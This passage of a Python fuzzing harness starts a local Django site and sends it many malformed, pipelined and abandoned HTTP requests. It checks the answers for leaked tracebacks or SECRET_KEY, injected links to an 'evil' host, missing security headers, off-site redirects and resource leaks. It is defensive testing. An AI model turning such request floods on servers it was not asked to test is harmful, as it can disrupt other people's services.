        rest = rest[int(lengths[0]) :] if good else None
    if rest is None:
        return None, data
    together = {}  # lines of one name are one list
    for name, value in headers:
        text = value.decode("latin-1")
        together[name] = f"{together[name]}, {text}" if name in together else text
    return Asked(first[1], first[2], together), rest


def _after_chunks(data):
    """What follows a chunked body, None if the chunks are not good or not complete."""
    while size := CHUNK.match(data):
        length = int(size[1], 16)
        data = data[size.end() + length :]
        if not data.startswith(b"\r\n"):
            return None
        data = data[2:]
        if not length:
            return data
    return None


class BrokenAnswer(Exception):
    pass


@dataclass
class Answer:
    status: int
    headers: list
    body: bytes

    def all(self, name):
        return [value for each, value in self.headers if each == name]

    def get(self, name):
        return ", ".join(self.all(name))

    @property
    def from_app(self):
        """Whether our code answered: granian puts its name on those, and on none of its own refusals."""
        return bool(self.all("server"))


def parse(data, method, closed):
    """Return (the first answer in `data` or None if it is not complete, the rest)."""
    head, end, rest = data.partition(b"\r\n\r\n")
    if not end:
        return None, data
    first, *lines = head.split(b"\r\n")
    status = re.fullmatch(rb"HTTP/1\.[01] ([1-5][0-9]{2}) [ -~]*", first)
    fields = [FIELD.fullmatch(line) for line in lines]
    if not status or not all(fields):
        raise BrokenAnswer(f"no HTTP/1 answer: {head[:200]!r}")
    headers = [(match[1].decode().lower(), match[2].decode("latin-1").strip()) for match in fields]
    answer = Answer(int(status[1]), headers, b"")
    if answer.status < 200:
        return parse(rest, method, closed)
    if method == b"HEAD" or answer.status in (204, 304):
        return answer, rest
    if answer.get("transfer-encoding") == "chunked":
        while size := CHUNK.match(rest):
            length, start = int(size[1], 16), size.end()
            if len(rest) < start + length + 2:
                return None, data
            if rest[start + length : start + length + 2] != b"\r\n":
                raise BrokenAnswer("a chunk does not end where it says")
            answer.body += rest[start : start + length]
            rest = rest[start + length + 2 :]
            if not length:
                return answer, rest
        return None, data
    if length := answer.get("content-length"):
        if not length.isdecimal():
            raise BrokenAnswer(f"Content-Length: {length}")
        answer.body, rest = rest[: int(length)], rest[int(length) :]
        return (answer, rest) if len(answer.body) == int(length) else (None, data)
    answer.body = rest
    return (answer, b"") if closed else (None, data)


class Wire:
    """One connection that sends and reads at the same time: a server may answer before it has read everything."""

    def __init__(self, address):
        self.socket = socket.create_connection(address, timeout=LIMIT)
        self.socket.setblocking(False)
        self.closed = False

    def exchange(self, data, asked, good=True):
        """Send, and return the answers: to good requests all, to broken ones what comes until there is silence."""
        received, answers, unsent = b"", [], memoryview(data)
        deadline, quiet, ended = time.monotonic() + LIMIT, time.monotonic() + QUIET, False
        while len(answers) < len(asked):
            answer, received = parse(received, asked[len(answers)].method, self.closed)
            if answer:
                answers.append(answer)
                continue
            now = time.monotonic()
            if self.closed:
                break
            if now > deadline:
                raise TimeoutError
            if not good and not unsent and now > quiet:
                if answers or ended:  # it waits for the rest of a request, until its own time limit
                    break
                self._end()  # there is no more
                quiet, ended = now + QUIET, True
            wait = max(0.0, (deadline if good or unsent else quiet) - now)
            readable, writable, _ = select.select([self.socket], [self.socket] if unsent else [], [], wait)
            try:
                if writable:
                    unsent = unsent[self.socket.send(unsent[:65536]) :]
                if readable:
                    new = self.socket.recv(262_144)
                    received += new
                    self.closed = not new
                if readable or writable:
                    quiet = time.monotonic() + QUIET
            except ConnectionError:
                unsent = memoryview(b"")
                received += self._last_words()
                self.closed = True
        if unsent:  # it has answered before it had read everything, and will not read the rest as a request
            self.closed = True
        if received and len(answers) < len(asked) and b"PRI * HTTP/2.0" not in data:
            raise BrokenAnswer(f"an answer that is not complete: {received[:300]!r}")
        if received and good:
            raise BrokenAnswer(f"more than the answers: {received[:300]!r}")
        return answers

    def _end(self):
        try:
            self.socket.shutdown(socket.SHUT_WR)
        except OSError:
            self.closed = True

    def _last_words(self):
        """What had arrived before the server cut the connection."""
        words = b""
        try:
            while new := self.socket.recv(262_144):
                words += new
        except OSError:
            pass
        return words

    def close(self):
        self.socket.close()
        self.closed = True


def accepts(coding, header):
    """Whether an Accept-Encoding field allows a coding (RFC 9110 section 12.5.3)."""
    chances = {}
    for item in header.lower().split(","):
        name, *parameters = (part.strip() for part in item.split(";"))
        chances[name] = not any(re.fullmatch(r"q\s*=\s*0(\.0*)?", parameter) for parameter in parameters)
    return chances.get(coding, chances.get("*", False))


FOREIGN_LINK = re.compile(rb'(?:href|src|action)="(?:[a-z]+:)?[/\\]{2,}evil', re.IGNORECASE)
INSIDE = re.compile(rb"Traceback|settings\.DEBUG|DJANGO_SETTINGS_MODULE|site-packages|File &quot;|SECRET_KEY")
REFUSALS = {400, 405, 408, 411, 413, 414, 417, 431, 501, 505}  # of the server itself


def faults(asked, answer, site_url, *, good):
    """What is wrong with an answer, as a list of sentences. `good`: the request was good HTTP."""
    found = []
    if not answer.from_app:
        if good or answer.status not in REFUSALS:
            found.append(f"the server itself answered {answer.status}")
        return found
    if answer.status >= 500:
        found.append(f"{answer.status} from the site")
    if match := INSIDE.search(answer.body):
        found.append(f"it shows its inside: {match[0]!r}")
    if match := FOREIGN_LINK.search(answer.body):
        found.append(f"a link to elsewhere: {match[0]!r}")
    if "default-src 'none'" not in answer.get("content-security-policy"):
        found.append("no Content-Security-Policy")
    if answer.get("x-content-type-options") != "nosniff":
        found.append("no X-Content-Type-Options")
    for location in answer.all("location"):
        if not re.fullmatch(rf"({re.escape(site_url)})?/(?![/\\])[!-\[\]-~]*", location):
            found.append(f"Location: {location}")
    declared = answer.get("content-type")
    if answer.body and declared not in TYPES.values():
        found.append(f"Content-Type: {declared!r}")
    elif answer.body and answer.status >= 400 and declared != HTML:
        found.append(f"an error as {declared}")
    if good:
        if answer.status == 200 and TYPES.get(asked.target, declared) != declared:
            found.append(f"{declared} instead of {TYPES[asked.target]}")
        # A malformed cookie of ours is taken away again, from whoever sends one.
        ours = re.search("sessionid|csrftoken", asked.headers.get(b"cookie", ""))
        if answer.all("set-cookie") and b"admin" not in asked.target and not ours:
            found.append("Set-Cookie on a public page")
        found += _negotiation_faults(asked, answer)
    return found


def _negotiation_faults(asked, answer):
    found = []
    sent = asked.headers
    coding = answer.get("content-encoding")
    # WhiteNoise looks for the coding's name alone, so a static file may come as gzip to "gzip;q=0".
    if coding and not asked.target.startswith(b"/static/") and not accepts(coding, sent.get(b"accept-encoding", "")):
        found.append(f"{coding} to Accept-Encoding: {sent.get(b'accept-encoding')}")
    if coding and "accept-encoding" not in answer.get("vary").lower():
        found.append("a content coding without Vary")
    if coding == "gzip" and answer.body and answer.status == 200:
        try:
            gzip.decompress(answer.body)
        except (OSError, EOFError):
            found.append("gzip that cannot be read")
    needed = {
        304: (b"if-none-match", b"if-modified-since"),
        412: (b"if-match", b"if-unmodified-since"),
        206: (b"range",),
    }
    if answer.status in needed and not any(name in sent for name in needed[answer.status]):
        found.append(f"{answer.status} without being asked")
    match = sent.get(b"if-none-match", "*")
    if answer.status == 304 and "*" not in match and answer.get("etag").removeprefix("W/") not in match:
        found.append(f"304 with {answer.get('etag')} to If-None-Match: {match}")
    return found


def twin_faults(head, get):
    """Where the answers to HEAD and GET of the same differ."""
    found = [] if head.status == get.status else [f"HEAD {head.status}, GET {get.status}"]
    for name in (
        "content-length",
        "content-type",
        "content-encoding",
        "etag",
        "last-modified",
        "vary",
        "cache-control",
    ):
        if head.get(name) != get.get(name) and not (name == "content-length" and not head.get(name)):
            found.append(f"{name}: HEAD {head.get(name)!r}, GET {get.get(name)!r}")
    return found


@dataclass
class Failure:
    number: int
    case: Case
    faults: list

    def __str__(self):
        data = self.case.data
        return (
            f"Request {self.number} ({self.case.kind}, {len(data)} bytes): {'; '.join(self.faults)}\n"
            f"  {data[:1500]!r}{'...' if len(data) > 1500 else ''}"
        )


@dataclass
class Run:
    """Many requests to one site, by several connections at a time."""

    url: str  # where it listens, and its SITE_URL
    seed: object
    requests: int
    seconds: float = 1e9
    at: dict = field(default_factory=dict)  # number of a request -> what to call when it is due
    kinds: Counter = field(default_factory=Counter)
    statuses: Counter = field(default_factory=Counter)
    failures: list = field(default_factory=list)
    slowest: list = field(default_factory=list)
    sent: int = 0

    def __post_init__(self):
        host, _, port = self.url.removeprefix("http://").partition(":")
        self.address = (host, int(port))
        self.lock = threading.Lock()
        self.known = {}

    def learn(self):
        """Ask for every address once, for the ETags and dates that conditions are made of."""
        wire = Wire(self.address)
        for address in READABLE:
            (answer,) = wire.exchange(message(address), [Asked(b"GET")])
            if answer.get("etag") or answer.get("last-modified"):
                made_up = ('"a"', "Thu, 01 Jan 2026 00:00:00 GMT")
                named = (answer.get("etag") or made_up[0], answer.get("last-modified") or made_up[1])
                self.known[address] = tuple(text.encode("latin-1") for text in named)
            if wire.closed or answer.get("connection") == "close":
                wire = Wire(self.address)
        wire.close()

    def go(self, only=None):
        self.learn()
        self.numbers = iter([only] if only is not None else range(self.requests))
        self.deadline = time.monotonic() + self.seconds
        threads = [threading.Thread(target=self._work) for _ in range(CONNECTIONS)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
        return self

    def _work(self):
        wire = None
        while len(self.failures) < MOST_FAILURES and time.monotonic() < self.deadline:
            with self.lock:
                number = next(self.numbers, None)
                if number is None:
                    break
                self.sent += 1
                self.at.get(number, lambda: None)()
            sent = case(self.seed, number, self.known)
            began = time.monotonic()
            try:
                wire, found = self._try(wire, sent)
            except Exception:  # a failure of this program must not look like a good run
                wire, found = None, [traceback.format_exc()]
            took = time.monotonic() - began
            with self.lock:
                self.kinds[sent.kind] += 1
                self.slowest = sorted([*self.slowest, (took, number, sent)], key=lambda each: -each[0])[:3]
                if found:
                    self.failures.append(Failure(number, sent, found))

    def _try(self, wire, sent):
        """Send a request; return the connection if it can be used again, and what was wrong."""
        if sent.abandoned:
            self._abandon(sent)
            return wire, []
        asked, good = requests_in(sent.data)
        reused = wire is not None
        wire = wire or Wire(self.address)
        try:
            answers = wire.exchange(sent.data, asked, good)
            if good and not answers and reused:  # the server may close a connection that it kept
                wire = Wire(self.address)
                answers = wire.exchange(sent.data, asked, good)
        except BrokenAnswer as broken:
            wire.close()
            return None, [str(broken)]
        except TimeoutError:
            wire.close()
            with self.lock:
                self.statuses["none"] += 1
            return None, [f"no complete answer in {LIMIT} seconds"]
        with self.lock:
            self.statuses.update([answer.status for answer in answers] or ["no answer"])
        found = []
        for one, answer in zip(asked, answers, strict=False):
            found += faults(one, answer, self.url, good=good)
        if good and not answers:
            found.append("the connection was closed without an answer to a good request")
        if good and sent.kind == "twins" and len(answers) == 2:
            found += twin_faults(*answers)
        if not good or wire.closed or any("close" in answer.get("connection") for answer in answers):
            wire.close()
            wire = None
        return wire, found

    def _abandon(self, sent):
        wire = socket.create_connection(self.address, timeout=LIMIT)
        wire.sendall(sent.data)
        time.sleep(0.02 * (len(sent.data) % 2))  # at once, or after the server has begun to read
        wire.close()
        with self.lock:
            self.statuses["abandoned"] += 1


class Server:
    """The site as it is deployed, with a database of its own that goes with it."""

    root = Path(__file__).resolve().parent.parent

    def __enter__(self):
        self.folder = tempfile.TemporaryDirectory(prefix="fuzz-")
        with socket.socket() as probe:
            probe.bind(("127.0.0.1", 0))
            port = probe.getsockname()[1]
        self.url = f"http://127.0.0.1:{port}"
        self.environment = {
            "PATH": os.environ["PATH"],
            "SECRET_KEY": "only-for-fuzzing-" * 5,
            "SITE_URL": self.url,
            "DEBUG": "false",
            "ALLOWED_HOSTS": "",
            "DATABASE_URL": f"sqlite:///{self.folder.name}/site.sqlite3",
            "CACHE_URL": "locmemcache://",
            "BEHIND_PROXY": "false",
            "ADMIN_PATH": "admin/",
            "REQUIRE_SECOND_FACTOR": "false",
        }
        for command in ("migrate", "load_catalogue", "collectstatic --no-input"):
            arguments = [sys.executable, "manage.py", *command.split(), "--verbosity", "0"]
            subprocess.run(arguments, cwd=self.root, env=self.environment, check=True)
        self.log = open(f"{self.folder.name}/log", "w+b")
        self.process = subprocess.Popen(
            [
                Path(sys.executable).with_name("granian"),
                *f"--interface wsgi --host 127.0.0.1 --port {port} --workers 1 --blocking-threads 1 --no-ws".split(),
                "statuscodes.wsgi:application",
            ],
            cwd=self.root,
            env=self.environment,
            stdout=self.log,
            stderr=self.log,
        )
        for _ in range(100):
            try:
                self.ask(b"/healthz")
                break
            except OSError:
                time.sleep(0.1)
        else:
            raise SystemExit("The server did not start.")
        return self

    def __exit__(self, *_):
        self.process.terminate()
        try:
            self.process.wait(timeout=10)
        except subprocess.TimeoutExpired:
            self.process.kill()
        self.log.close()
        self.folder.cleanup()

    def ask(self, target):
        wire = Wire(("127.0.0.1", int(self.url.rpartition(":")[2])))
        (answer,) = wire.exchange(message(target, b"Connection: close"), [Asked(b"GET")])
        wire.close()
        return answer

    @property
    def worker(self):
        pid = self.process.pid
        return int(Path(f"/proc/{pid}/task/{pid}/children").read_text().split()[0])

    def memory(self):
        """What the worker holds, in MB."""
        return int(re.search(r"VmRSS:\s+(\d+)", Path(f"/proc/{self.worker}/status").read_text())[1]) / 1024

    def busy(self):
        """Seconds of processor time that the worker uses in a second without requests."""

        def used():
            fields = Path(f"/proc/{self.worker}/stat").read_text().rpartition(")")[2].split()
            return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")

        before = used()
        time.sleep(1)
        return used() - before

    def complaints(self):
        """Lines of the log that speak of a failure of ours, not of a bad request."""
        self.log.flush()
        text = Path(self.log.name).read_text(errors="replace")
        return re.findall(r"^.*(?:Internal Server Error|panicked|raised an exception|CRITICAL).*$", text, re.MULTILINE)


def afterwards(server, before):
    """What is wrong with the server after a run."""
    found = []
    worker = server.memory()
    if before and worker - before > MOST_GROWTH:
        found.append(f"The worker grew from {before:.0f} to {worker:.0f} MB.")
    try:
        if (status := server.ask(b"/404/").status) != 200:
            found.append(f"/404/ answers {status}.")
    except (OSError, ValueError, BrokenAnswer) as error:
        found.append(f"/404/ does not answer any more: {error!r}")
    if (busy := server.busy()) > 0.5:
        found.append(f"The worker still computes: {busy:.2f} s in a second without requests.")
    return found + [f"In the log: {line[:300]}" for line in server.complaints()[:5]]


def main():
    parser = argparse.ArgumentParser(description=__doc__.partition("\n")[0])
    parser.add_argument("--requests", type=int, default=12_000)
    parser.add_argument("--seed", default=str(time.time_ns() % 1_000_000))
    parser.add_argument("--minutes", type=float, default=30, help="stop, and fail, when it takes longer")
    parser.add_argument("--only", type=int, metavar="N", help="send request N of the seed alone")
    options = parser.parse_args()
    print(f"Seed {options.seed}, {options.requests} requests")
    memory = []
    with Server() as server:
        run = Run(server.url, options.seed, options.requests, options.minutes * 60)
        run.at[WARM_UP] = lambda: memory.append(server.memory())
        began = time.monotonic()
        run.go(options.only)
        took = time.monotonic() - began
        problems = afterwards(server, memory[0] if memory else None)
        if options.only is None and run.sent < options.requests and not run.failures:
            problems.append(f"Only {run.sent} requests in {options.minutes} minutes.")
        print(f"\n{run.sent} requests in {took:.0f} s, {len(run.failures)} failures")
        print("by kind   ", ", ".join(f"{kind} {count}" for kind, count in run.kinds.most_common()))
        print("answers   ", ", ".join(f"{status} {count}" for status, count in run.statuses.most_common()))
        for seconds, number, sent in run.slowest:
            print(f"slowest    {seconds:.2f} s, request {number} ({sent.kind}) {sent.data[:80]!r}")
        if memory:
            print(f"memory     {memory[0]:.0f} MB after {WARM_UP} requests, {server.memory():.0f} MB at the end")
    for failure in run.failures:
        print(f"\n{failure}\n  Again: make fuzz FUZZ='--seed {options.seed} --only {failure.number}'")
    for problem in problems:
        print(problem)
    return 1 if run.failures or problems else 0


if __name__ == "__main__":
    sys.exit(main())
